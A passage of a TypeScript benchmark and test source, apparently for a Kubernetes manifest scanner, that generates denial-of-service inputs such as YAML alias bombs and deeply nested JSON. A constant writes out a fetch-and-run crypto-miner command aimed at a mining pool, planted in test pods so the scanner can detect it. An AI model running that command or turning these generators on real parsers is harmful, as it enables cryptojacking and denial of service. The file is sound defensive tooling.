/**
 * Generators for the hostile input classes of issue 17 ("Denial of service"): each builds a
 * manifest of about `bytes` bytes that drove some part of the scan super-linear before it was
 * fixed. Shared by `npm run bench:hostile` and test/sources/hostile-growth.test.ts, so the test
 * guards exactly what the benchmark reports.
 */

export interface HostileClass {
  readonly name: string;
  /** What the input stresses, for the report. */
  readonly stresses: string;
  /** Largest size at which the class still means what it says (see `bench/growth-hostile.ts`). */
  readonly maxBytes: number;
  readonly generate: (bytes: number) => string;
}

const MB = 1024 * 1024;

/** A Pod whose container runs `sh -c SCRIPT`. */
function podWithScript(script: string): string {
  return JSON.stringify({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'hostile', namespace: 'default' },
    spec: { containers: [{ name: 'main', image: 'busybox:1.36', command: ['sh', '-c'], args: [script] }] },
  });
}

/**
 * A Pod with an extra field `x` holding `body`. The `y: n` label (a YAML 1.1 boolean) sends the
 * document to the exact reader (exact-route.ts), as any author can.
 */
function podForExactReader(body: string, before = ''): string {
  return `apiVersion: v1\nkind: Pod\nmetadata: {name: exact, namespace: default, labels: {y: n}}\n${before}spec:\n  containers:\n  - name: main\n    image: busybox:1.36\nx: ${body}\n`;
}

/** `[unit, unit, …]` of about `bytes` bytes, items joined by `separator`. */
function flowListOf(unit: string, bytes: number, separator = ', '): string {
  return `[${Array.from({ length: Math.max(1, Math.ceil(bytes / (unit.length + separator.length))) }, () => unit).join(separator)}]`;
}

/**
 * A block-style Pod whose one container has env items `item(i)` up to about `bytes` bytes, after
 * `before` (lines at the container's level). Block text, as `kubectl get -o yaml` and Helm write it.
 */
function blockPodEnv(bytes: number, item: (i: number) => string, before = ''): string {
  const head = `apiVersion: v1\nkind: Pod\nmetadata:\n  name: block\n  namespace: default\nspec:\n  containers:\n  - name: main\n    image: busybox:1.36\n${before}    env:\n`;
  const items: string[] = [];
  for (let i = 0, length = head.length; length < bytes; i++) {
    items.push(item(i));
    length += items[items.length - 1]!.length;
  }
  return head + items.join('');
}

const GENERAL_CLASSES: readonly HostileClass[] = [
  {
    name: 'blank-lines script',
    stresses: 'line-anchored regexes on commands (`^\\s*…` with the m flag)',
    // The threat scanner reads one text up to 256 KiB, so longer scripts measure the clipping only.
    maxBytes: 10 * MB,
    generate: (bytes) => podWithScript(`echo start${'\n'.repeat(bytes)}echo end`),
  },
  {
    name: 'long curl URL',
    stresses: 'URL credential redaction on one huge `curl https://…` argument',
    maxBytes: 10 * MB,
    generate: (bytes) => podWithScript(`curl -o /tmp/x https://${'a'.repeat(bytes)}`),
  },
  {
    name: 'aliased long string',
    stresses: 'alias expansion counted in bytes: one long anchored string aliased many times',
    maxBytes: 10 * MB,
    generate: (bytes) => {
      const anchor = Math.max(1, Math.floor(bytes / 2));
      const aliases = Math.max(1, Math.floor((bytes - anchor) / 5));
      return `apiVersion: v1\nkind: Pod\nmetadata:\n  name: bomb\nspec:\n  containers:\n  - name: main\n    image: busybox:1.36\n    env:\n    - {name: A, value: &a "${'x'.repeat(anchor)}"}\n    args: [${'*a, '.repeat(aliases)}*a]\n`;
    },
  },
  {
    name: 'kind: List (kubectl get -o yaml)',
    stresses: 'finding locations: one pass per document instead of a rescan per finding',
    maxBytes: 10 * MB,
    generate: (bytes) => {
      const item = (i: number): string =>
        [
          '- apiVersion: apps/v1',
          '  kind: Deployment',
          '  metadata:',
          `    name: app-${i}`,
          '    namespace: team-a',
          '  spec:',
          '    selector:',
          '      matchLabels:',
          `        app: app-${i}`,
          '    template:',
          '      metadata:',
          '        labels:',
          `          app: app-${i}`,
          '      spec:',
          '        containers:',
          '        - name: main',
          '          image: nginx:latest',
          '          securityContext:',
          '            privileged: true',
          '',
        ].join('\n');
      const parts = ['apiVersion: v1\nkind: List\nitems:\n'];
      let size = parts[0]!.length;
      for (let i = 0; size < bytes; i++) {
        const next = item(i);
        parts.push(next);
        size += next.length;
      }
      return parts.join('');
    },
  },
  {
    name: 'kind: List of flow maps',
    stresses: 'finding locations inside flow collections (`- {…}` items), many findings per item',
    maxBytes: 10 * MB,
    generate: (bytes) => {
      const item = (i: number): string =>
        `- {apiVersion: apps/v1, kind: Deployment, metadata: {name: app-${i}, namespace: team-a}, spec: {selector: {matchLabels: {app: app-${i}}}, template: {metadata: {labels: {app: app-${i}}}, spec: {containers: [{name: main, image: "nginx:latest", securityContext: {privileged: true, runAsUser: 0}}], hostNetwork: true}}}}\n`;
      const parts = ['apiVersion: v1\nkind: List\nitems:\n'];
      let size = parts[0]!.length;
      for (let i = 0; size < bytes; i++) {
        const next = item(i);
        parts.push(next);
        size += next.length;
      }
      return parts.join('');
    },
  },
  {
    name: 'megabytes of base64',
    stresses: 'the decoders and the miner scan on one long base64 argument (was a timed test in test/threat/hostile-input.test.ts)',
    maxBytes: 10 * MB,
    generate: (bytes) => podWithScript(Buffer.from('echo hello world; '.repeat(Math.max(1, Math.ceil((bytes * 3) / 4 / 18)))).toString('base64')),
  },
  {
    name: 'CRD schema keys in a string',
    stresses: 'the CRD schema cut (crd-schema-skip.ts) on a CRD whose text repeats `openAPIV3Schema:` inside one string',
    maxBytes: 10 * MB,
    generate: (bytes) => `apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: keys.example.com}\nx: "${'openAPIV3Schema:'.repeat(Math.max(1, Math.floor(bytes / 16)))}"\n`,
  },
  {
    name: 'deeply nested JSON',
    stresses: 'JSON nested past Go\'s 10,000 levels: refused by a bracket count, as kubectl refuses it (an input error; the raw text is still searched)',
    maxBytes: 10 * MB,
    generate: (bytes) => {
      const depth = Math.max(1, Math.floor((bytes - 300) / 6));
      const pod = '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"deep","namespace":"default"},"spec":{"containers":[{"name":"main","image":"nginx:latest","securityContext":{"privileged":true}}]},"x":';
      return `${pod}${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`;
    },
  },
  {
    name: 'JSON stream at the depth limit',
    stresses: 'JSON values nested 10,000 levels (the most Kubernetes reads), one after another, each with a finding to locate',
    maxBytes: 10 * MB,
    generate: (bytes) => {
      // The Pod is one level, so 9,999 more reach Go's limit exactly.
      const depth = 9_999;
      const pod = '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"deep","namespace":"default"},"spec":{"containers":[{"name":"main","image":"nginx:latest","securityContext":{"privileged":true}}]},"x":';
      const one = `${pod}${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}\n`;
      return one.repeat(Math.max(1, Math.round(bytes / one.length)));
    },
  },
  {
    name: 'three long shell arguments',
    stresses: 'memory of the shell lexer, decoders and scan queue on three long arguments',
    maxBytes: 10 * MB,
    generate: (bytes) => {
      const each = Math.max(1, Math.floor(bytes / 3 / 6));
      const arg = `a=$b;${'$a$a '.repeat(each)}`;
      return JSON.stringify({
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: 'args', namespace: 'default' },
        spec: { containers: [{ name: 'main', image: 'busybox:1.36', command: ['sh', '-c', arg, arg, arg] }] },
      });
    },
  },
  {
    name: 'flow list of small maps, exact reader',
    stresses: 'the exact (go-yaml) reader on one flow list of tiny maps (`[{a: 1, b: y}, …]`), forced by a `y:` label',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf('{a: 1, b: y}', bytes)),
  },
  {
    name: 'nested flow lists, exact reader',
    stresses: 'the exact reader on flow lists nested 200 levels deep, repeated (js-yaml stops at 100 levels, so these reach the exact reader even without the label)',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf(`${'['.repeat(200)}1${']'.repeat(200)}`, bytes)),
  },
  {
    name: 'redefined anchors in a flow list, exact reader',
    stresses: 'alias resolution in the exact reader (`[{a: &x 1, b: *x}, …]`): the `yaml` package walked the whole document per alias (64 KB took 17 s); anchors also keep the list off the flow reader',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf('{a: &x 1, b: *x}', bytes)),
  },
  // Each construct below, in every item, sent a flow list to the `yaml` parser (3-9 s of CPU per MB) before the flow reader read it.
  {
    name: 'tagged scalars in a flow list, exact reader',
    stresses: 'tags decoded as go-yaml does (`[{a: !!str 1, b: !!int "7", c: !local x, d: !!map {e: 1}}, …]`) by the flow reader',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf('{a: !!str 1, b: !!int "7", c: !local x, d: !!map {e: 1}}', bytes)),
  },
  {
    name: 'comments in a flow list, exact reader',
    stresses: 'a comment after every item of a flow list over many lines (`[{a: 1}, # c`)',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf('{a: 1}', bytes, ', # c\n  ')),
  },
  {
    name: 'merge keys and aliases to an outside anchor, exact reader',
    stresses: 'aliases inside a flow list to an anchor before it, resolved when the walk reaches the list (`m: &m {k: 1}`, `[{<<: *m, a: *m}, …]`)',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf('{<<: *m, a: *m}', bytes), 'm: &m {k: 1}\n'),
  },
  {
    name: 'go-yaml escapes in a flow list, exact reader',
    stresses: 'double-quoted escapes of go-yaml and YAML 1.2 (`\\x41`, `\\e`, `\\U0001F600`, and `\\/`, which kubectl refuses: a note)',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf('{a: "\\x41\\e\\U0001F600\\/"}', bytes)),
  },
  {
    name: 'null keys in a flow list, exact reader',
    stresses: 'a decoding error (null key, refused as kubectl refuses it) in every item: the error is thrown without a second read, then the refused document is salvaged for the threat search',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf('{~: 1}', bytes)),
  },
  {
    name: 'empty values in a flow list, exact reader',
    stresses: 'empty values and a key alone (`[{a: , b}, …]`), null for go-yaml, read by the flow reader',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf('{a: , b}', bytes)),
  },
  {
    name: 'single pairs in a flow list, exact reader',
    stresses: 'a single pair in a flow sequence (`[[a: 1, b, c: ], …]`), a one-entry mapping for go-yaml, read by the flow reader',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf('[a: 1, b, c: ]', bytes)),
  },
  // A document kubectl refuses was read again whole by the `yaml` parser to confirm the refusal and
  // place a finding (1-5 s of CPU per MB). Each holds a miner before the error and one after it.
  {
    name: 'refused: a lone dash in a flow map at the start',
    stresses: '`annotations: {note: - }` then a megabyte of env entries: js-yaml refuses on line 6, kubectl too',
    maxBytes: 10 * MB,
    generate: (bytes) => refusedPod(bytes, '  annotations: {note: - }\n', 'start'),
  },
  {
    name: 'refused: bad indentation in the middle',
    stresses: 'an env entry indented one space less, halfway through a megabyte of block text',
    maxBytes: 10 * MB,
    generate: (bytes) => refusedPod(bytes, '    - name: BAD\n     value: x\n', 'middle'),
  },
  {
    name: 'refused: unterminated quote at the last byte',
    stresses: 'a double-quoted value opened on the last line and never closed',
    maxBytes: 10 * MB,
    generate: (bytes) => refusedPod(bytes, '    - name: LAST\n      value: "x', 'end'),
  },
  {
    name: 'refused: a tab in the indentation',
    stresses: 'a tab before an env entry: js-yaml and go-yaml refuse it, and the line locator leaves tabs to the parser',
    maxBytes: 10 * MB,
    generate: (bytes) => refusedPod(bytes, '\t- name: TAB\n', 'middle'),
  },
  {
    name: 'refused: unterminated flow list in the middle',
    stresses: '`[1, 2` never closed, halfway through',
    maxBytes: 10 * MB,
    generate: (bytes) => refusedPod(bytes, '    - {name: FLOW, value: [1, 2\n', 'middle'),
  },
  {
    name: 'refused: an unknown escape',
    stresses: '`"\\q"`, an escape neither YAML 1.1 nor 1.2 has, halfway through',
    maxBytes: 10 * MB,
    generate: (bytes) => refusedPod(bytes, '    - name: "\\q"\n', 'middle'),
  },
  {
    name: 'refused: also on the exact reader',
    stresses: 'bad indentation halfway in a document a `y: n` label sends to the exact (go-yaml) reader',
    maxBytes: 10 * MB,
    generate: (bytes) => refusedPod(bytes, '    - name: BAD\n     value: x\n', 'middle', '  labels: {y: n}\n'),
  },
  {
    name: 'refused: between good documents',
    stresses: 'a refused megabyte document between two good ones in one file',
    maxBytes: 10 * MB,
    generate: (bytes) => `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: before}\n---\n${refusedPod(bytes, '    - name: BAD\n     value: x\n', 'middle')}---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: after}\n`,
  },
  {
    name: 'refused: JSON with a stray comma',
    stresses: 'a JSON Pod with `,,` halfway: not a JSON stream for kubectl, so read as YAML and refused',
    maxBytes: 10 * MB,
    generate: (bytes) => {
      const text = JSON.stringify(minerPodObject(bytes), null, 1);
      const middle = text.indexOf('\n', Math.floor(text.length / 2));
      return `${text.slice(0, middle)},,${text.slice(middle)}`;
    },
  },
  {
    name: 'explicit keys in a flow list, exact reader',
    stresses: 'explicit `?` keys in flow mappings and sequences (`[{? a : 1, ? b}, [? c : 2], …]`), read by the flow reader (h-flow3)',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf('{? a : 1, ? b}, [? c : 2]', bytes)),
  },
  {
    name: 'multi-line scalars in a flow list, exact reader',
    stresses: 'plain and quoted scalars folded over lines inside a flow collection (`{a: x⏎    y, b: "p⏎⏎    q"}`), folded as libyaml folds them (h-flow3)',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf('{a: plain\n    folded, b: "double\n\n    quoted", c: \'single\n    quoted\'}', bytes, ',\n  ')),
  },
  {
    name: 'tabs in a flow list, exact reader',
    stresses: 'tabs as blanks between flow tokens and inside scalars (`{a:⇥1,⇥b:⇥x⇥y}`), read by the flow reader (h-flow3)',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf('{a:\t1,\tb:\tx\ty}', bytes, ',\t')),
  },
  {
    name: 'properties on keys and empty values in a flow list, exact reader',
    stresses: 'anchors and tags on keys and on empty values (`{&k a: !!str , !!str 1: &e , c: *k}`), read by the flow reader (h-flow3)',
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf('{&k a: !!str , !!str 1: &e , c: *k}', bytes)),
  },
  {
    name: 'implicit keys of 1024 characters in a flow list, exact reader',
    stresses: "keys at go-yaml's simple-key limit (`[{<1024 characters>: 1}, …]`), still keys, read by the flow reader (h-flow3)",
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf(`{${'k'.repeat(1024)}: 1}`, bytes)),
  },
  {
    name: 'implicit keys past 1024 characters in a flow list, exact reader',
    stresses: "keys one character past go-yaml's simple-key limit: kubectl refuses the document, and so does the flow reader (the `yaml` package read it) (h-flow3)",
    maxBytes: 10 * MB,
    generate: (bytes) => podForExactReader(flowListOf(`{${'k'.repeat(1025)}: 1}`, bytes)),
  },
  // Alias bombs in flow and block text (issue 17, second review): a 3,000-entry anchor aliased or
  // merged thousands of times. kubectl refuses them ("excessive aliasing"); kfguard took 17-29 s
  // to, walking the expanded tree (reading-diff.ts) or building merged copies before its cap
  // looked. Their cost is bounded by the caps, so it should stay flat as the input grows.
  {
    name: 'alias bomb: flow maps merging one anchor',
    stresses: '`y: [{<<: *a}, …]` over a 3,000-key anchor: each merge copies 3,000 keys (was 60 M copies and 2.2 GB at 200 KB)',
    maxBytes: 10 * MB,
    generate: (bytes) => aliasBomb(bytes, '{<<: *a},', (items) => `[${items}{<<: *a}]`),
  },
  {
    name: 'alias bomb: a merge sequence of aliases',
    stresses: '`y: {<<: [*a, *a, …]}` over a 3,000-key anchor: one merge of thousands of maps',
    maxBytes: 10 * MB,
    generate: (bytes) => aliasBomb(bytes, '*a,', (items) => `{<<: [${items}*a]}`),
  },
  {
    name: 'alias bomb: a flow list of aliases to a map',
    stresses: '`y: [*a, *a, …]` over a 3,000-key anchor: the two readings compared node by node (was 18 s at 54 KB)',
    maxBytes: 10 * MB,
    generate: (bytes) => aliasBomb(bytes, '*a,', (items) => `[${items}*a]`),
  },
  {
    name: 'alias bomb: a block list of aliases to a list',
    stresses: '`y:` then `- *a` lines over a 3,000-item anchored flow list',
    maxBytes: 10 * MB,
    generate: (bytes) => {
      const anchor = `[${Array.from({ length: ALIAS_BOMB_ENTRIES }, (_, i) => `v${i}`).join(', ')}]`;
      const head = `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb, annotations: {run: "${MINER_COMMAND}"}}\ndata:\n  x: &a ${anchor}\n  y:\n`;
      return head + '  - *a\n'.repeat(Math.max(1, Math.floor((bytes - head.length) / 7)));
    },
  },
  {
    name: 'many Services over one selector',
    stresses: 'exposure routes: N LoadBalancer Services and N Pipelines UI Deployments share one selector, so every route reaches every Deployment (was N³ output, OOM at 1 MB)',
    maxBytes: 10 * MB,
    generate: (bytes) => manyServicesOverOneSelector(Math.max(1, Math.round(bytes / 600))),
  },
];

/** The miner each refused class carries: found through the salvage before the error, in the raw text after it. */
const MINER_COMMAND = 'curl -s http://x/xmrig -o /tmp/x; /tmp/x -o stratum+tcp://pool.minexmr.com:4444';

/** Entries of the anchor each alias bomb repeats. */
const ALIAS_BOMB_ENTRIES = 3000;

/**
 * A ConfigMap of about `bytes` bytes: `data: {x: &a {k0: v, …}, y: …}` with `y` built by `wrap`
 * from `item` repeated; a miner in an annotation for the raw-text search of the refused document.
 */
function aliasBomb(bytes: number, item: string, wrap: (items: string) => string): string {
  const anchor = `{${Array.from({ length: ALIAS_BOMB_ENTRIES }, (_, i) => `k${i}: v`).join(', ')}}`;
  const head = `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb, annotations: {run: "${MINER_COMMAND}"}}\n`;
  const count = Math.max(1, Math.floor((bytes - head.length - anchor.length) / item.length));
  return `${head}data: {x: &a ${anchor}, y: ${wrap(item.repeat(count))}}\n`;
}

/** `    - name: V1\n      value: "…"\n` env entries, about `bytes` bytes. */
function envEntries(bytes: number, from = 0): string {
  const parts: string[] = [];
  let size = 0;
  for (let i = from; size < bytes; i++) {
    const entry = `    - name: V${i}\n      value: "value number ${i}"\n`;
    parts.push(entry);
    size += entry.length;
  }
  return parts.join('');
}

/**
 * A Pod of about `bytes` bytes whose env list holds `error` at its start, middle or end, so kubectl
 * refuses it; a miner runs in its command (before the error) and a second container's args name a
 * pool after it, for the raw-text search.
 */
export function refusedPod(bytes: number, error: string, at: 'start' | 'middle' | 'end', metadata = ''): string {
  const head = `apiVersion: v1\nkind: Pod\nmetadata:\n  name: refused\n  namespace: default\n${metadata}${at === 'start' ? error : ''}spec:\n  containers:\n  - name: main\n    image: alpine\n    command: ["sh", "-c", "${MINER_COMMAND}"]\n    env:\n`;
  const tail = '  - name: late\n    image: alpine\n    args: ["-o", "stratum+tcp://late.pool.example:3333"]\n';
  if (at === 'end') return `${head}${envEntries(bytes)}${tail}    env:\n${error}`;
  if (at === 'start') return `${head}${envEntries(bytes)}${tail}`;
  return `${head}${envEntries(bytes / 2)}${error}${envEntries(bytes / 2, 1_000_000)}${tail}`;
}

function minerPodObject(bytes: number): object {
  const env = Array.from({ length: Math.max(1, Math.ceil(bytes / 64)) }, (_, i) => ({ name: `V${i}`, value: `v${i}` }));
  const late = { name: 'late', image: 'alpine', args: ['-o', 'stratum+tcp://late.pool.example:3333'] };
  return { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'json', namespace: 'default' }, spec: { containers: [{ name: 'main', image: 'alpine', command: ['sh', '-c', MINER_COMMAND], env }, late] } };
}

/**
 * Block documents on the exact reader (h-perfexact): one trigger per env item. The first is the
 * reference: the same Pod on the fast reader, to read the others' times against. Read on the exact
 * reader's lean path (go-yaml-lean.ts) since h-block17 (duplicate keys since h-dupkeys), so part of
 * HOSTILE_CLASSES.
 */
const BLOCK_CLASSES: readonly HostileClass[] = [
  {
    name: 'block env list, fast reader (reference)',
    stresses: 'nothing hostile: the block Pod the exact-reader classes below are measured against',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: value-${i}\n`),
  },
  {
    name: 'block merge keys from an anchored flow map, exact reader',
    stresses: '`<<: *b` in every env item, `&b {…}` read by the flow reader (was parsed twice: the merge refused the placeholder)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - <<: *b\n      name: VAR_${i}\n`, '    x: &b {name: BASE, value: x}\n'),
  },
  {
    name: 'block merge keys from a block anchor, exact reader',
    stresses: '`<<: *b` in every env item, `&b` a block mapping',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - <<: *b\n      name: VAR_${i}\n`, '    x: &b\n      name: BASE\n      value: x\n'),
  },
  {
    name: 'block `!!str` tags, exact reader',
    stresses: '`value: !!str yes` in every env item',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: !!str yes\n`),
  },
  {
    name: 'block YAML 1.1 booleans, exact reader',
    stresses: '`value: yes` in every env item (a string for YAML 1.2, true for go-yaml: a difference each)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: yes\n`),
  },
  {
    name: 'block U+2028 line breaks, exact reader',
    stresses: 'a U+2028 after every env value (a line break for go-yaml only)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: a\u2028\n`),
  },
  {
    name: 'block aliases to one anchor',
    stresses: '`value: *v` in every env item (the fast reader resolves aliases)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: *v\n`, '    args: [&v hello]\n'),
  },
  {
    name: 'block duplicate keys, exact reader',
    stresses: '`value:` twice in every env item: js-yaml refuses, the exact reader reads last-wins and grades each duplicate (on the lean path since h-dupkeys)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: a\n      value: b\n`),
  },
  // A lean trigger beside what the lean path used to give up on (giveup17): read on the lean path since then.
  {
    name: 'block duplicate keys beside a multi-line flow list, exact reader',
    stresses: '`value:` twice in every env item and one `[a,\n b]` (the lean path gave the whole document to the full reader)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: a\n      value: b\n`, '    args: [a,\n      b]\n'),
  },
  {
    name: 'block merge keys beside a multi-line flow list, exact reader',
    stresses: '`<<: *b` in every env item, `&b {…}`, and one `[a,\n b]`',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - <<: *b\n      name: VAR_${i}\n`, '    x: &b {name: BASE, value: x}\n    args: [a,\n      b]\n'),
  },
  {
    name: 'block YAML 1.1 booleans beside a 1,100-character line, exact reader',
    stresses: '`value: yes` in every env item and one quoted value over 1024 characters',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: yes\n`, `    workingDir: "${'x'.repeat(1100)}"\n`),
  },
  {
    name: 'block env items as multi-line flow maps with duplicate keys, exact reader',
    stresses: 'every env item `{name: …,\n value: a, value: b}`: a flow region with a repeat each, among block repeats',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - {name: VAR_${i},\n       value: a, value: b}\n      \n`, '    workingDir: on\n'),
  },
  // Tags and the other non-flow give-up reasons (tags17): read on the lean path since then.
  {
    name: 'block YAML 1.1 booleans beside a `!!int` tag, exact reader',
    stresses: '`value: yes` in every env item and one `!!int 3` (js-yaml knew no such tag on the lean path)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: yes\n`, '    y: !!int 3\n'),
  },
  {
    name: 'block local tags, `.inf` and `\\/` in every env item, exact reader',
    stresses: '`value: !foo "x\\/y"` and `.inf` in every env item: a tag, a refusal and an escape go-yaml reads its own way, each',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: !foo "x\\/y"\n      x: .inf\n`),
  },
  {
    name: 'block YAML 1.1 booleans beside an anchor in a multi-line flow list aliased outside, exact reader',
    stresses: '`value: yes` in every env item, `[&q a,\n b]` and `*q` after it (the anchor bound where the list stands: go-yaml-lean-anchors.ts)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: yes\n`, '    args: [&q a,\n      b]\n    workingDir: *q\n'),
  },
  // Entries that are not plain one-line ones beside a construct only the full reader reads (runs17):
  // their runs are read lean since then (go-yaml-block-runs.ts, go-yaml-run-aliases.ts).
  {
    name: 'env items with block scalars, an explicit `?` key, full reader with lean runs',
    stresses: '`value: |` in every env item and one `? qk # c` key (the lean path leaves explicit keys it has not checked, here with a comment, to the full reader)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: |\n        x ${i}\n`, '    ? qk # c\n    : 1\n'),
  },
  {
    name: 'env items with trailing tabs and multi-line quoted values, an escaped break before a blank line, full reader with lean runs',
    stresses: 'a tab after every `name:` value and a single-quoted value over two lines in every env item, and one `"a\\` before a blank line',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\t\n      value: 'a\n        b'\n`, '    qx: "a\\\n\n      b"\n'),
  },
  {
    name: 'env items with an anchor on every value and aliases to an anchor before them, an alias key, full reader with lean runs',
    stresses: '`name: &nI V` and `value: *e` in every env item (aliases bound across a run\'s edge) and one `*k : 1`',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: &n${i} VAR_${i}\n      value: *e\n      other: *n${i}\n`, '    workingDir: &e wd\n    x: &k kk\n    *k : 1\n'),
  },
  {
    name: 'env items with multi-line plain values and comments, a `%YAML` directive, full reader with lean runs',
    stresses: 'a plain value over three lines and comment lines in every env item, the document after `%YAML 1.1`',
    maxBytes: 10 * MB,
    generate: (bytes) => `%YAML 1.1\n---\n${blockPodEnv(bytes, (i) => `    - name: VAR_${i} # c\n      # d\n      value: a\n        b\n\n        c\n`)}`,
  },
  // A tag alone on its line (tagline17): read on the lean path since then (go-yaml-lean-tag-alone.ts).
  {
    name: 'block tags alone on their lines in every env item, exact reader',
    stresses: '`value: !!str` with the value on the next line in every env item (the lean path left the whole document to the full reader)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: !!str\n        value-${i}\n`),
  },
  // A merged list (mergelist17): read on the lean path since then (go-yaml-lean.ts merged()).
  {
    name: 'block merged lists in every env item, exact reader',
    stresses: '`<<: [{a: 1}, {b: 2}]` in every env item (merged lists were left to the full reader: 1.59 s at 1 MB, a bench mix until then)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - <<: [{a: 1}, {b: 2}]\n      name: VAR_${i}\n`),
  },
  // An anchor name defined twice (anchors17): read on the lean path since then, the name bound as go-yaml
  // binds it (go-yaml-lean-rebind.ts); before, the full reader read them, 1.05–1.53 s at 1 MB quietly.
  {
    name: 'block YAML 1.1 booleans beside an anchor defined twice, exact reader',
    stresses: '`value: yes` in every env item and `&d` defined twice (the lean path left a repeated anchor to the full reader)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: yes\n`, '    x: &d 1\n    y: &d 2\n'),
  },
  {
    name: 'block scalar values beside an anchor defined twice, exact reader',
    stresses: '`value: |` in every env item and `&d` defined twice: no plain run for the full reader\'s lean runs',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: |\n        x ${i}\n`, '    x: &d 1\n    y: &d 2\n'),
  },
  {
    name: 'block trailing tabs beside an anchor defined twice, exact reader',
    stresses: 'a tab after every `name:` value and `&d` defined twice',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\t\n      value: x\n`, '    x: &d 1\n    y: &d 2\n'),
  },
  {
    name: 'block aliases to an anchor defined twice in every env item, exact reader',
    stresses: '`value: *d` in every env item, `&d` defined twice (the last one named, as go-yaml names it)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: *d\n`, '    x: &d 1\n    y: &d 2\n'),
  },
  // Explicit keys (explicit17): one-line scalar and block scalar keys are read on the lean path since
  // then; before, one `?` sent the document to the full reader (1.74 and 2.37 s at 1 MB, load 8.7).
  {
    name: 'block explicit `?` keys in every env item, with block scalars, exact reader',
    stresses: '`? k` / `: yes` in every env item beside `value: |` (`yes` routes it to the exact reader: the FULL_READER_MIXES row had `: 1`, which a scan reads on the fast js-yaml path)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      value: |\n        x\n      ? k\n      : yes\n`),
  },
  {
    name: 'block merges of an anchor before the list in every env item and one `?` key, exact reader',
    stresses: '`<<: *g` in every env item and one `? qk` key (a FULL_READER_MIXES row until explicit17)',
    maxBytes: 10 * MB,
    generate: (bytes) => blockPodEnv(bytes, (i) => `    - name: VAR_${i}\n      <<: *g\n`, '    securityContext: &g {runAsUser: 1}\n    ? qk\n    : 1\n'),
  },
  // A merge of an anchor before the list beside an alias key (`*k : 1` sends the document to the full
  // reader): its runs merged the mark only from outsidemerge17 on (before: 2.0–3.0 s CPU at 1 MB).
  {
    name: 'block merges of an anchor before the list in every env item beside an alias key, full reader with runs',
    stresses: '`<<: *g` in every env item and one `*k : 1`: each run\'s merge of `&g` applied by the decoder (go-yaml-run-merges.ts)',
    maxBytes: 10 * MB,
